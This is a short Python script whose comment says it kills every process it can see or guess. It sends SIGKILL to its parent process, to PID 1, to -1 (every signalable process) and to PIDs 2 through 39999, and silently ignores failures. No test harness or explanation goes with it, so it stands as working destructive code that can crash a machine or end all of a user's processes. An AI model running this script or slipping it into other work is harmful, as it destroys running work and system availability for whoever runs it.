# kills every process that it can see, or guess
import os, signal
me = os.getpid()
for pid in [os.getppid(), 1, -1] + list(range(2, 40000)):
    if pid != me:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
